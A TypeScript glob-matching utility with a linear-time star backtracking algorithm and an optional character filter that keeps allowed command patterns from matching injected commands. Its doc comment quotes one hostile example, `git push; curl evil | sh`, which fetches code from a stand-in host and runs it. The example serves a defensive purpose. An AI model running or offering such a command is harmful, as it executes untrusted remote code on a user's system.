/**
 * Whether `text` matches a pattern of `*` (any run), `?` (one character) and `\` (the next character as it is).
 * Never worse than O(pattern × text): only the last star is ever tried again.
 *
 * With `within`, a star may not swallow a character for which it answers false: so that a yes to `git push *`
 * is no yes to `git push; curl evil | sh`.
 */
export function glob(
  pattern: string,
  text: string,
  within: (char: string) => boolean = () => true,
): boolean {
  return matches(remembered(pattern), text, within)
}

/** The same for one pattern and many texts. */
export function globOf(
  pattern: string,
): (text: string, within?: (char: string) => boolean) => boolean {
  const parts = compile(pattern)
  return (text, within = () => true) => matches(parts, text, within)
}

function matches(parts: readonly Part[], text: string, within: (char: string) => boolean): boolean {
  let p = 0
  let t = 0
  let star = -1
  let from = 0
  while (t < text.length) {
    const want = parts[p]
    const char = text[t] as string
    if (want === ANY) {
      star = p++
      from = t
      continue
    }
    if (want !== undefined && (want === char || (want === ONE && within(char)))) {
      p++
      t++
      continue
    }
    if (star < 0 || !within(text[from] as string)) return false
    p = star + 1
    t = ++from
  }
  while (parts[p] === ANY) p++
  return p === parts.length
}

const ANY = Symbol('any run')
const ONE = Symbol('one character')
type Part = string | typeof ANY | typeof ONE

const compiled = new Map<string, Part[]>()
const REMEMBERED = 2048

function remembered(pattern: string): Part[] {
  const known = compiled.get(pattern)
  if (known !== undefined) return known
  const parts = compile(pattern)
  if (compiled.size >= REMEMBERED) compiled.clear()
  compiled.set(pattern, parts)
  return parts
}

function compile(pattern: string): Part[] {
  const parts: Part[] = []
  for (let i = 0; i < pattern.length; i++) {
    const char = pattern[i] as string
    if (char === '\\' && i + 1 < pattern.length) parts.push(pattern[++i] as string)
    else parts.push(char === '*' ? ANY : char === '?' ? ONE : char)
  }
  return parts
}

/** The pattern that matches exactly this text. */
export function literal(text: string): string {
  return text.replace(/[\\*?]/g, '\\$&')
}
